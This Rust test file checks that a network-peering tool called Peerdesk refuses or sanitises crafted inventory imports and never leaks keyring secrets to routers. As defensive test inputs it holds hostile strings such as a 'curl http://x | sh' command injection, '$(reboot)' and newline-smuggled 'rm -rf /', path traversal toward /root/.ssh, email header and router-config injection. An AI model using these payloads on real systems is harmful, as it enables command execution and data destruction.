//! An inventory file is outside input: these files are crafted the way a
//! hostile or careless colleague's file would be, and each is either refused
//! with the entry and field named and nothing changed (database and keyring),
//! or imported without any secret reference, so no push sends a secret the
//! session does not own and no router is contacted until its password is
//! entered again.

mod common;

use common::*;
use peerdesk_core::devices::ssh::Output;
use peerdesk_core::devices::transport::{RouterConnector, RouterTransport};
use peerdesk_core::devices::{Platform, Router};
use peerdesk_core::peering::{SessionChanges, SessionFilter};
use peerdesk_core::secrets::{Secret, SecretStore};
use peerdesk_core::templating::config::{ConfigOperation, ConfigOverrides};
use peerdesk_core::ErrorKind;
use serde_json::{json, Value};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// Every command, upload and file path a push sent, in order. It answers
/// every command with success and an empty output: enough for a push to run
/// its steps and record them, never enough to look configured.
#[derive(Default)]
struct Recorder {
    sent: Mutex<Vec<String>>,
    connections: Mutex<u32>,
}

struct Line(Arc<Recorder>);

impl RouterTransport for Line {
    fn exec(&self, command: &str) -> peerdesk_core::Result<Output> {
        self.0.sent.lock().unwrap().push(format!("exec {command}"));
        Ok(Output {
            status: 0,
            stdout: String::new(),
            stderr: String::new(),
        })
    }
    fn upload(&self, path: &str, bytes: &[u8]) -> peerdesk_core::Result<()> {
        self.0
            .sent
            .lock()
            .unwrap()
            .push(format!("upload {path}\n{}", String::from_utf8_lossy(bytes)));
        Ok(())
    }
    fn read(&self, path: &str) -> peerdesk_core::Result<Option<String>> {
        self.0.sent.lock().unwrap().push(format!("read {path}"));
        Ok(None)
    }
    fn remove(&self, path: &str) -> peerdesk_core::Result<()> {
        self.0.sent.lock().unwrap().push(format!("remove {path}"));
        Ok(())
    }
}

struct RecordingConnector(Arc<Recorder>);

impl RouterConnector for RecordingConnector {
    fn connect(&self, _router: &Router) -> peerdesk_core::Result<Box<dyn RouterTransport>> {
        *self.0.connections.lock().unwrap() += 1;
        Ok(Box::new(Line(self.0.clone())))
    }
}

fn recorder(f: &Fixture) -> Arc<Recorder> {
    let r = Arc::new(Recorder::default());
    f.core
        .set_router_connector(Arc::new(RecordingConnector(r.clone())));
    r
}

fn push(f: &Fixture, session_id: i64) -> peerdesk_core::Result<()> {
    f.core
        .push_session_config(
            session_id,
            ConfigOperation::Add,
            &ConfigOverrides::default(),
            Duration::ZERO,
        )
        .map(|_| ())
}

/// A world with a router password, a session with its own MD5 password and
/// the SMTP password in the keyring; its export as JSON.
fn world_with_secrets(f: &Fixture) -> (World, i64, Value) {
    let w = world(&f.core);
    f.core
        .update_router(
            w.router.id,
            &router_changes(&w.router, Some("Router-Secret-1")),
        )
        .unwrap();
    let mut s = new_session(&w, "64500", Some("192.0.2.10"), None);
    s.md5_password = Some("Md5-Own-1".into());
    let sid = f.core.add_session(&s).unwrap()[0].id;
    f.secrets
        .set("smtp/password", &Secret::new("Smtp-Secret-1"))
        .unwrap();
    let file = f.db_path.with_file_name("export.json");
    f.core.export_inventory(&file).unwrap();
    let v: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    (w, sid, v)
}

fn import_value(f: &Fixture, v: &Value) -> peerdesk_core::Result<()> {
    let path = f.db_path.with_file_name("crafted.json");
    std::fs::write(&path, serde_json::to_vec_pretty(v).unwrap()).unwrap();
    f.core.import_inventory(&path).map(|_| ())
}

fn keyring(f: &Fixture) -> Vec<(String, String)> {
    f.secrets
        .keys()
        .into_iter()
        .map(|k| {
            let v = f.secrets.get(&k).unwrap().unwrap().expose().to_string();
            (k, v)
        })
        .collect()
}

#[test]
fn a_file_naming_another_keyring_entry_imports_without_it_and_sends_no_secret_but_the_sessions_own()
{
    let f = core();
    let (_w, sid, mut v) = world_with_secrets(&f);
    v["sessions"][0]["md5Ref"] = json!("smtp/password");
    v["routers"][0]["credentialRef"] = json!("smtp/password");
    let keys_before = keyring(&f);
    import_value(&f, &v).unwrap();
    assert_eq!(keyring(&f), keys_before, "import never writes the keyring");

    let s = f.core.get_session(sid).unwrap();
    assert_eq!(
        (s.md5_ref.as_deref(), s.md5_needed),
        (None, true),
        "the file's key name is dropped; the session waits for its MD5 password"
    );
    let r = f.core.list_routers().unwrap().remove(0);
    assert_eq!(
        (r.credential_ref.as_deref(), r.credential_needed),
        (None, true)
    );

    let rec = recorder(&f);
    let e = push(&f, sid).unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Invalid, "{e}");
    assert_eq!(e.field(), Some("md5Password"), "{e}");
    assert_eq!(*rec.connections.lock().unwrap(), 0, "no router contacted");

    f.core
        .update_session(
            sid,
            &SessionChanges {
                session_type: s.session_type,
                peer_group_id: s.peer_group_id,
                peer_ip: s.peer_ip.clone(),
                admin_state: s.admin_state,
                md5_password: Some("Md5-New-2".into()),
                clear_md5: false,
                notes: String::new(),
            },
        )
        .unwrap();
    assert!(!f.core.get_session(sid).unwrap().md5_needed);
    let e = push(&f, sid).unwrap_err();
    assert_eq!(e.kind(), ErrorKind::AuthFailed, "{e}");
    assert!(e.to_string().contains("needs its password"), "{e}");
    assert_eq!(
        *rec.connections.lock().unwrap(),
        0,
        "still no router contacted"
    );

    f.core
        .update_router(r.id, &router_changes(&r, Some("Router-Secret-2")))
        .unwrap();
    assert!(!f.core.list_routers().unwrap()[0].credential_needed);
    // The recorder never shows the neighbour configured, so the push ends in
    // an error of its own; what matters is what it sent on the way.
    let _ = push(&f, sid);
    let sent = rec.sent.lock().unwrap().join("\n");
    assert!(
        *rec.connections.lock().unwrap() >= 1,
        "now the router is contacted"
    );
    assert!(
        sent.contains("Md5-New-2"),
        "the session's own MD5 password is sent: {sent}"
    );
    for other in [
        "Smtp-Secret-1",
        "Router-Secret-1",
        "Router-Secret-2",
        "Md5-Own-1",
    ] {
        assert!(
            !sent.contains(other),
            "{other} never reaches the router: {sent}"
        );
    }
}

#[test]
fn crafted_fields_are_refused_with_entry_and_field_named_and_nothing_changes() {
    let f = core();
    let (w, sid, good) = world_with_secrets(&f);
    let rid = w.router.id;
    let before = snapshot(&f.core);
    let keys_before = keyring(&f);
    type Edit = fn(&mut Value);
    let cases: Vec<(&str, Edit, String)> = vec![
        (
            "controlCommand",
            |v| v["routers"][0]["controlCommand"] = json!("vtysh; curl http://x | sh"),
            format!("router {rid}"),
        ),
        (
            "controlCommand",
            |v| v["routers"][0]["controlCommand"] = json!("birdc $(reboot)"),
            format!("router {rid}"),
        ),
        (
            "controlCommand",
            |v| v["routers"][0]["controlCommand"] = json!("birdc\nreboot"),
            format!("router {rid}"),
        ),
        (
            "configDir",
            |v| v["routers"][0]["configDir"] = json!("/etc/bird/../../root/.ssh"),
            format!("router {rid}"),
        ),
        (
            "configDir",
            |v| v["routers"][0]["configDir"] = json!("/etc/bird/peers;rm"),
            format!("router {rid}"),
        ),
        (
            "mgmtAddress",
            |v| v["routers"][0]["mgmtAddress"] = json!("rtr1;reboot"),
            format!("router {rid}"),
        ),
        (
            "sshPort",
            |v| v["routers"][0]["sshPort"] = json!(0),
            format!("router {rid}"),
        ),
        (
            "localAsn",
            |v| v["routers"][0]["localAsn"] = json!(0),
            format!("router {rid}"),
        ),
        (
            "username",
            |v| v["routers"][0]["username"] = json!("peerdesk\nrm -rf /"),
            format!("router {rid}"),
        ),
        (
            "attachments.ipv4",
            |v| v["routers"][0]["attachments"][0]["ipv4"] = json!("198.51.100.1"),
            format!("router {rid}"),
        ),
        (
            "prefixV4",
            |v| v["exchanges"][0]["prefixV4"] = json!("192.0.2.0/33"),
            "exchange".into(),
        ),
        (
            "country",
            |v| v["exchanges"][0]["country"] = json!("Germany"),
            "exchange".into(),
        ),
        (
            "importPolicy",
            |v| v["peerGroups"][0]["importPolicy"] = json!("PEER-IN; no router bgp"),
            "peer group".into(),
        ),
        (
            "maxPrefix",
            |v| v["peerGroups"][0]["maxPrefix"] = json!(0),
            "peer group".into(),
        ),
        (
            "routerId",
            |v| v["peerGroups"][0]["routerId"] = json!(999),
            "peer group".into(),
        ),
        (
            "asSet",
            |v| v["networks"][0]["asSet"] = json!("AS-X\nneighbor 192.0.2.9 remote-as 1"),
            "network".into(),
        ),
        (
            "asn",
            |v| v["networks"][0]["asn"] = json!(23456),
            "network".into(),
        ),
        (
            "peerIp",
            |v| v["sessions"][0]["peerIp"] = json!("203.0.113.9"),
            format!("session {sid}"),
        ),
        (
            "ipVersion",
            |v| v["sessions"][0]["ipVersion"] = json!(6),
            format!("session {sid}"),
        ),
        (
            "asn",
            |v| v["sessions"][0]["asn"] = json!(64999),
            format!("session {sid}"),
        ),
        (
            "createdAt",
            |v| v["sessions"][0]["createdAt"] = json!("yesterday"),
            format!("session {sid}"),
        ),
        (
            "bgpLastError",
            |v| v["sessions"][0]["bgpLastError"] = json!("down\u{7}\u{1b}[2J"),
            format!("session {sid}"),
        ),
        (
            "notes",
            |v| v["sessions"][0]["notes"] = json!("x".repeat(100_000)),
            format!("session {sid}"),
        ),
        (
            "coordinatorEmail",
            |v| v["settings"]["coordinatorEmail"] = json!("noc@x\nBcc: all@x.net"),
            "settings".into(),
        ),
        (
            "ownAsns",
            |v| v["settings"]["ownAsns"] = json!([0]),
            "settings".into(),
        ),
    ];
    for (field, edit, entry) in cases {
        let mut v = good.clone();
        edit(&mut v);
        let e = import_value(&f, &v).unwrap_err();
        let msg = e.to_string();
        assert_eq!(e.kind(), ErrorKind::Invalid, "{field}: {msg}");
        assert!(
            msg.contains("not a valid Peerdesk inventory"),
            "{field}: {msg}"
        );
        assert!(
            msg.contains(&entry),
            "{field}: names the entry {entry}: {msg}"
        );
        assert!(msg.contains(field), "{field}: names the field: {msg}");
        assert_eq!(snapshot(&f.core), before, "{field}: nothing changed");
        assert_eq!(keyring(&f), keys_before, "{field}: keyring untouched");
    }
}

#[test]
fn a_file_cannot_point_the_peeringdb_api_key_at_another_server() {
    let f = core();
    let (_w, _sid, mut v) = world_with_secrets(&f);
    let url = f.core.get_settings().unwrap().peeringdb_url;
    v["settings"]["peeringdbUrl"] = json!("https://pdb.example.net/api");
    import_value(&f, &v).unwrap();
    assert_eq!(f.core.get_settings().unwrap().peeringdb_url, url);
}

#[test]
fn an_md5_value_that_would_break_the_platforms_quoting_is_refused_and_never_sent() {
    let f = core();
    let (w, sid, _) = world_with_secrets(&f);
    let _ = w;
    // Someone changed the keyring entry behind Peerdesk's back.
    f.secrets
        .set(
            &format!("session/{sid}/md5"),
            &Secret::new("ok\"; }\nneighbor 192.0.2.66 remote-as 64511"),
        )
        .unwrap();
    let rec = recorder(&f);
    let e = push(&f, sid).unwrap_err();
    assert_eq!(e.kind(), ErrorKind::Invalid, "{e}");
    assert_eq!(e.field(), Some("md5Password"));
    assert!(
        !e.to_string().contains("192.0.2.66"),
        "the value is not echoed: {e}"
    );
    assert_eq!(*rec.connections.lock().unwrap(), 0, "nothing was sent");
}

#[test]
fn a_legitimate_round_trip_keeps_everything_but_the_secrets_which_are_asked_for_again() {
    let a = core();
    let (_w, _sid, v) = world_with_secrets(&a);
    let before = a.core.inventory().unwrap();
    let b = core();
    import_value(&b, &v).unwrap();
    assert!(b.secrets.keys().is_empty(), "no secret travelled");
    let after = b.core.inventory().unwrap();
    assert_eq!(after.exchanges, before.exchanges);
    assert_eq!(after.peer_groups, before.peer_groups);
    assert_eq!(after.networks, before.networks);
    let strip_router = |r: &Router| Router {
        credential_ref: None,
        credential_needed: false,
        ..r.clone()
    };
    assert_eq!(
        after.routers.iter().map(strip_router).collect::<Vec<_>>(),
        before.routers.iter().map(strip_router).collect::<Vec<_>>()
    );
    assert!(after.routers.iter().all(|r| r.credential_needed));
    let strip = |s: &peerdesk_core::peering::Session| peerdesk_core::peering::Session {
        md5_ref: None,
        md5_needed: false,
        ..s.clone()
    };
    assert_eq!(
        after.sessions.iter().map(strip).collect::<Vec<_>>(),
        before.sessions.iter().map(strip).collect::<Vec<_>>()
    );
    let s = &b.core.list_sessions(&SessionFilter::default()).unwrap()[0];
    assert!(
        s.md5_needed,
        "the session that had an MD5 password asks for it"
    );
}

#[test]
fn a_control_command_reaches_the_router_shell_as_quoted_words_only() {
    let f = core();
    let w = world(&f.core);
    let mut c = router_changes(&w.router, Some("Router-Secret-1"));
    c.platform = Platform::Bird2;
    c.control_command = Some("/usr/sbin/birdc -s /run/bird/bird.ctl".into());
    c.config_dir = Some("/etc/bird/peers".into());
    f.core.update_router(w.router.id, &c).unwrap();
    let sid = f
        .core
        .add_session(&new_session(&w, "64500", Some("192.0.2.10"), None))
        .unwrap()[0]
        .id;
    let rec = recorder(&f);
    let _ = push(&f, sid);
    let sent = rec.sent.lock().unwrap().clone();
    let execs: Vec<&String> = sent.iter().filter(|c| c.starts_with("exec ")).collect();
    assert!(!execs.is_empty(), "the push ran BIRD commands: {sent:?}");
    for c in execs {
        assert!(
            c.starts_with("exec '/usr/sbin/birdc' '-s' '/run/bird/bird.ctl' '"),
            "every word quoted: {c}"
        );
    }
}

/// Any file, however mangled: import gives a summary or an `invalid` (or, for
/// bytes that are not a file at all, `io`) error, never a panic or an internal
/// error, and a refused file changes nothing. Mutations keep the JSON shape
/// often enough to reach the record checks: values swapped for other kinds,
/// strings for hostile ones, numbers out of range, keys dropped.
mod fuzz {
    use super::*;
    use proptest::prelude::*;
    use proptest::test_runner::{Config, RngAlgorithm, RngSeed, TestRunner};

    #[derive(Debug, Clone)]
    enum Change {
        Set(usize, Value),
        Drop(usize),
    }

    fn hostile() -> impl Strategy<Value = Value> {
        prop_oneof![
            Just(Value::Null),
            Just(json!(0)),
            Just(json!(-1)),
            Just(json!(4_294_967_296u64)),
            Just(json!(true)),
            Just(json!([])),
            Just(json!({})),
            Just(json!("")),
            Just(json!("vtysh; reboot")),
            Just(json!("/etc/../root")),
            Just(json!("smtp/password")),
            Just(json!("192.0.2.999")),
            Just(json!("2001:db8::1/129")),
            Just(json!("Example\nneighbor 192.0.2.9 remote-as 1")),
            "\\PC{0,30}".prop_map(Value::String),
        ]
    }

    /// Every (path to a scalar) in the document, in a fixed order.
    fn leaves(v: &Value, path: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
        match v {
            Value::Object(m) => {
                for (k, x) in m {
                    path.push(k.clone());
                    leaves(x, path, out);
                    path.pop();
                }
            }
            Value::Array(a) => {
                for (i, x) in a.iter().enumerate() {
                    path.push(i.to_string());
                    leaves(x, path, out);
                    path.pop();
                }
            }
            _ => out.push(path.clone()),
        }
    }

    fn apply(doc: &Value, paths: &[Vec<String>], changes: &[Change]) -> Value {
        let mut d = doc.clone();
        for c in changes {
            let (i, set) = match c {
                Change::Set(i, v) => (*i, Some(v.clone())),
                Change::Drop(i) => (*i, None),
            };
            let path = &paths[i % paths.len()];
            let (last, parents) = path.split_last().unwrap();
            let mut at = &mut d;
            for p in parents {
                at = match at {
                    Value::Object(m) => m.get_mut(p).unwrap(),
                    Value::Array(a) => &mut a[p.parse::<usize>().unwrap()],
                    _ => unreachable!(),
                };
            }
            match (at, set) {
                (Value::Object(m), Some(v)) => {
                    m.insert(last.clone(), v);
                }
                (Value::Object(m), None) => {
                    m.remove(last);
                }
                (Value::Array(a), Some(v)) => a[last.parse::<usize>().unwrap()] = v,
                _ => {}
            }
        }
        d
    }

    #[test]
    fn any_mangled_file_is_imported_or_refused_whole() {
        let f = core();
        let (_w, _sid, good) = world_with_secrets(&f);
        let mut paths = Vec::new();
        leaves(&good, &mut Vec::new(), &mut paths);
        let change = prop_oneof![
            (any::<usize>(), hostile()).prop_map(|(i, v)| Change::Set(i, v)),
            any::<usize>().prop_map(Change::Drop),
        ];
        let mut runner = TestRunner::new(Config {
            cases: 96,
            rng_algorithm: RngAlgorithm::ChaCha,
            rng_seed: RngSeed::Fixed(0x5eed_1e11),
            failure_persistence: None,
            ..Config::default()
        });
        let t = std::time::Instant::now();
        runner
            .run(&prop::collection::vec(change, 1..4), |changes| {
                let before = snapshot(&f.core);
                let doc = apply(&good, &paths, &changes);
                match import_value(&f, &doc) {
                    Ok(()) => {
                        // Imported: put the good file back for the next case.
                        import_value(&f, &good).unwrap();
                    }
                    Err(e) => {
                        prop_assert!(
                            matches!(e.kind(), ErrorKind::Invalid),
                            "a typed refusal: {:?} {}",
                            e.kind(),
                            e
                        );
                        prop_assert_eq!(snapshot(&f.core), before, "nothing changed");
                    }
                }
                prop_assert!(f.secrets.keys().len() == 3, "keyring untouched");
                Ok(())
            })
            .unwrap();
        eprintln!(
            "96 mangled inventory files in {} ms",
            t.elapsed().as_millis()
        );
    }
}
